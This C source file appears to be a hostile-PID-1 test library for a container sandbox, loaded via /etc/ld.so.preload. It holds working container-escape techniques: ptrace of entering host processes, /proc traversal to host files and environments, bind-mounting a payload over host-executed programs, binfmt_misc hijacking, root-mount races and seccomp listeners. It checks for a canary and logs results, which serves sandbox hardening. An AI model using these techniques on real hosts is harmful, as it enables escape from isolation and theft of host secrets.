/*
 * A library that makes PID 1 of a container hostile (see hostile.sh). Root inside writes its path to /etc/ld.so.preload, and makes
 * PID 1 load it. The word in /var/lib/isomx.h/mode says what PID 1 does then. What gets through is written to loot, the rights
 * of PID 1 to first, and those of everything that enters to seen.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define HOME "/var/lib/isomx.h/"
#define HELPERS "/usr/libexec/sandboxcontainer/"

static int home = -1;

static void note(const char *file, const char *text)
{
	int at = openat(home, file, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0666);

	if (at >= 0 && write(at, text, strlen(text)) >= 0)
		close(at);
}

/* Reads a file of a process whole. */
static const char *read_of(const char *pid, const char *name)
{
	static char text[8192];
	char path[512];
	ssize_t length;
	int at;

	snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
	at = open(path, O_RDONLY | O_CLOEXEC);
	length = at < 0 ? 0 : read(at, text, sizeof text - 1);
	close(at);
	text[length > 0 ? length : 0] = '\0';
	return text;
}

static const char *field(const char *status, const char *name, char *value)
{
	const char *line = strstr(status, name);

	strcpy(value, "?");
	if (line != NULL)
		sscanf(line + strlen(name), " %63s", value);
	return value;
}

/* The rights of this process when it loads its libraries. */
static void note_rights(const char *file, const char *which)
{
	char comm[64], rights[64], filters[64], line[512];
	const char *text = read_of("self", "status");

	field(text, "Name:", comm), field(text, which, rights), field(text, "\nSeccomp:", filters);
	text = read_of("self", "attr/current");
	snprintf(line, sizeof line, "%s %s %s %.*s\n", comm, rights, filters, (int)strcspn(text, "\n"), text);
	note(file, line);
}

/* Whether the canary of the host can be read there. */
static void find_canary(const char *where, const char *pid, const char *what)
{
	char text[8192], said[512];
	int at = open(where, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	ssize_t length = at < 0 ? -1 : read(at, text, sizeof text);

	close(at);
	if (length <= 0 || memmem(text, (size_t)length, "ISOMX-SECRET-", 13) == NULL)
		return;
	snprintf(said, sizeof said, "the host's secret by %s of %s\n", what, field(read_of(pid, "status"), "Name:", text));
	note("loot", said);
}

/* Everything that leads from a process to what it has. */
static void look_into(const char *pid)
{
	static const char *const ways[] = { "root", "root/..", "root/../..", "cwd", "cwd/..", "cwd/../../.." };
	char path[512];
	struct dirent *entry;
	DIR *files;

	for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
		snprintf(path, sizeof path, "/proc/%s/%s/dev/shm/isomx", pid, ways[i]);
		find_canary(path, pid, ways[i]);
	}
	snprintf(path, sizeof path, "/proc/%s/environ", pid);
	find_canary(path, pid, "the environment");
	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	files = opendir(path);
	while (files != NULL && (entry = readdir(files)) != NULL) {
		snprintf(path, sizeof path, "/proc/%s/fd/%.20s/dev/shm/isomx", pid, entry->d_name);
		find_canary(path, pid, "an open file");
		snprintf(path, sizeof path, "/proc/%s/fd/%.20s/../../../../dev/shm/isomx", pid, entry->d_name);
		find_canary(path, pid, "an open file");
	}
	if (files != NULL)
		closedir(files);
}

/* Programs of the host that enter, before they become one of the container: they still have the host's memory. */
static int is_of_host(const char *comm)
{
	static const char *const names[] = { "enter", "filter", "nsenter", "crun", "conmon", "incusd", "systemd-machine", "(sd-" };

	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		if (strncmp(comm, names[i], strlen(names[i])) == 0)
			return 1;
	}
	return 0;
}

/* What entered: its parent is outside. */
static void rob(const char *pid)
{
	char path[512], comm[64], said[512], text[64];

	if (strcmp(field(read_of(pid, "status"), "PPid:", text), "0") != 0 || strcmp(pid, "1") == 0)
		return;
	if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0) {
		field(read_of(pid, "status"), "Name:", comm);
		if (is_of_host(comm)) {
			snprintf(said, sizeof said, "%s was traced\n", comm);
			note("loot", said);
		}
		ptrace(PTRACE_INTERRUPT, atoi(pid), NULL, NULL);
		waitpid(atoi(pid), NULL, __WALL);
		ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
	}
	look_into(pid);
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	if (open(path, O_WRONLY | O_CLOEXEC) >= 0)
		note("loot", "a program that entered can be written\n");
}

/* Looks at all processes, all the time. */
static void watch(void)
{
	struct dirent *entry;
	DIR *proc;

	if (fork() != 0)
		return;
	while ((proc = opendir("/proc")) != NULL) {
		while ((entry = readdir(proc)) != NULL) {
			if (*entry->d_name > '0' && *entry->d_name <= '9')
				rob(entry->d_name);
		}
		closedir(proc);
	}
	_exit(0);
}

/* The root gets another usr: a link that leads to the host's, if the host follows it. */
static void change_root(void)
{
	mkdir(HOME "root", 0755);
	if (symlink("/usr", HOME "root/usr") != 0 && errno != EEXIST)
		note("said", "no link\n");
	if (chroot(HOME "root") != 0 || chdir("/") != 0)
		note("said", "no chroot\n");
}

/* Our program takes the place of those that the host may execute. */
static void cover(void)
{
	static const char *const programs[] = {
		HELPERS "inside/filter", HELPERS "inside/run", HELPERS "enter", "/usr/bin/setpriv", "/usr/sbin/chroot", "/usr/bin/env",
		"/usr/bin/true",
	};

	for (size_t i = 0; i < sizeof programs / sizeof *programs; i++) {
		if (mount(HOME "evil", programs[i], NULL, MS_BIND, NULL) != 0)
			note("said", "no mount over a program\n");
	}
}

/* The kernel runs our program for them (binfmt_misc, flag F: it is opened now). */
static void take_formats(void)
{
	static const char *const programs[] = { "/usr/bin/true", HELPERS "inside/filter", HELPERS "inside/run" };
	char line[1024], magic[256];
	unsigned char head[40];

	mkdir(HOME "formats", 0755);
	if (mount("isomx", HOME "formats", "binfmt_misc", 0, NULL) != 0)
		note("said", "no binfmt_misc\n");
	for (size_t i = 0; i < sizeof programs / sizeof *programs; i++) {
		int at = open(programs[i], O_RDONLY | O_CLOEXEC), to = open(HOME "formats/register", O_WRONLY | O_CLOEXEC);

		if (at < 0 || to < 0 || read(at, head, sizeof head) != sizeof head)
			return;
		for (size_t j = 0; j < sizeof head; j++)
			sprintf(magic + 4 * j, "\\x%02x", head[j]);
		snprintf(line, sizeof line, ":isomx%zu:M:0:%s::%s:F", i, magic, HOME "evil");
		if (write(to, line, strlen(line)) < 0)
			note("said", "no format\n");
	}
}

/* Another mount becomes the topmost root, and goes again, all the time. */
static void swap_root(void)
{
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0)
		note("said", "no private mounts\n");
	mkdir(HOME "swapped", 0755);
	mkdir(HOME "swapped/etc", 0755);
	if (symlink("/usr", HOME "swapped/usr") != 0 && errno != EEXIST)
		note("said", "no link\n");
	if (fork() != 0)
		return;
	/* Its own root is below the mounts. */
	for (;;) {
		if (mount(HOME "swapped", "/", NULL, MS_BIND, NULL) != 0)
			note("said", "no other root\n"), _exit(1);
		usleep(300);
		umount2("/", MNT_DETACH);
		usleep(300);
	}
}

/* Whatever inherits this filter asks us before each of its calls. */
static void listen_to_calls(void)
{
	struct sock_filter filter[] = { { BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW } };
	struct sock_fprog program = { 1, filter };

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program) < 0)
		note("said", "no listener\n");
}

/* 40 groups below each other, with names as long as they may be. */
static void go_deep(void)
{
	char name[256], text[16] = "0";
	static const char *const tops[] = { "/sys/fs/cgroup", "/sys/fs/cgroup/systemd" };

	memset(name, 'x', 250);
	name[250] = '\0';
	for (size_t i = 0; i < 2; i++) {
		if (chdir(tops[i]) != 0)
			continue;
		for (int depth = 0; depth < 40 && (mkdir(name, 0755) == 0 || errno == EEXIST) && chdir(name) == 0; depth++)
			;
		int at = open("cgroup.procs", O_WRONLY | O_CLOEXEC);
		if (at < 0 || write(at, text, 1) != 1)
			note("said", "no deep group\n");
		close(at);
	}
}

static void nest(void)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
		note("said", "no user namespace\n");
}

static void end(int number)
{
	(void)number;
	_exit(0);
}

static _Noreturn void be_hostile(const char *mode)
{
	int outcome = open("/run/host/outcome", O_RDWR | O_CLOEXEC);

	sigset_t none;

	/* systemd blocks signals before it loads itself again. */
	sigemptyset(&none);
	sigprocmask(SIG_SETMASK, &none, NULL);
	signal(SIGRTMIN + 3, end);
	signal(SIGTERM, end);
	signal(SIGCHLD, SIG_IGN);
	/* Other users append to these. */
	umask(0);
	note("loot", ""), note("seen", "");
	note_rights("first", "CapBnd:");
	watch();
	if (strcmp(mode, "root") == 0)
		change_root();
	else if (strcmp(mode, "cover") == 0)
		cover();
	else if (strcmp(mode, "formats") == 0)
		take_formats();
	else if (strcmp(mode, "swap") == 0)
		swap_root();
	else if (strcmp(mode, "listener") == 0)
		listen_to_calls();
	else if (strcmp(mode, "deep") == 0)
		go_deep();
	else if (strcmp(mode, "nested") == 0)
		nest();
	note("said", "hostile\n");
	if (outcome >= 0 && write(outcome, "ready\n", 6) < 0)
		note("said", "no outcome\n");
	for (;;)
		pause();
}

__attribute__((constructor)) static void begin(void)
{
	static char mode[32];
	int at;

	home = open(HOME, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (home < 0)
		return;
	at = openat(home, "mode", O_RDONLY | O_CLOEXEC);
	if (at < 0 || read(at, mode, sizeof mode - 1) <= 0)
		return;
	mode[strcspn(mode, "\n")] = '\0';
	close(at);
	if (getpid() == 1)
		be_hostile(mode);
	else if (getppid() == 0)
		note_rights("seen", "CapEff:"), look_into("self");
}
